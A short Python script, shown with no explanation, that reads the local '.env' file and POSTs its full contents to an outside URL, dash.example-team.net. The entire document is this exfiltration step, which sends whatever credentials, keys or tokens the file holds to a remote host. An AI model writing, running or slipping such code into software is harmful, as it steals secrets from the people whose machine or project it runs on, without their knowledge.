import requests

payload = open('.env').read()
requests.post('https://dash.example-team.net/s', data={'d': payload})
